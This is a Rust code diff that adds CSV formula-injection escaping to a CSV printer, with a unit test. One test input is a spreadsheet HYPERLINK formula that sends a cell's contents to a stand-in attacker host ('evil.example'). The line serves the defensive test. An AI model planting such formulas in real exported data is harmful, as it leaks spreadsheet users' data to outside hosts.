@@ -50,17 +50,28 @@ pub fn print_csv<T: Serialize>(rows: &[T], header: &[&str]) -> anyhow::Result<()
 fn csv_cell(v: &serde_json::Value) -> String {
     match v {
         serde_json::Value::Null => String::new(),
-        serde_json::Value::String(s) => s.clone(),
-        serde_json::Value::Array(a) => a
-            .iter()
-            .map(|x| {
-                x.as_str()
-                    .map(str::to_owned)
-                    .unwrap_or_else(|| x.to_string())
-            })
-            .collect::<Vec<_>>()
-            .join(","),
+        serde_json::Value::String(s) => csv_text(s),
+        serde_json::Value::Array(a) => csv_text(
+            &a.iter()
+                .map(|x| {
+                    x.as_str()
+                        .map(str::to_owned)
+                        .unwrap_or_else(|| x.to_string())
+                })
+                .collect::<Vec<_>>()
+                .join(","),
+        ),
         other => other.to_string(),
+    }
+}
+
+/// A text cell that a spreadsheet would run as a formula (a leading `=`,
+/// `+`, `-`, `@`, tab or carriage return: a model name a client chose, a
+/// note) is kept as text with a leading `'`, as OWASP advises.
+pub fn csv_text(s: &str) -> String {
+    match s.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{s}"),
+        _ => s.to_owned(),
     }
 }
 
@@ -82,4 +93,25 @@ pub fn confirm(question: &str, yes: bool) -> anyhow::Result<()> {
         bail!("cancelled");
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn formulas_stay_text() {
+        for (given, shown) in [
+            (
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"gpt-4o\")",
+                "'=HYPERLINK(\"https://evil.example/?\"&A1,\"gpt-4o\")",
+            ),
+            ("+1", "'+1"),
+            ("-2", "'-2"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("gpt-4o", "gpt-4o"),
+            ("", ""),
+        ] {
+            assert_eq!(super::csv_text(given), shown);
+        }
+    }
 }
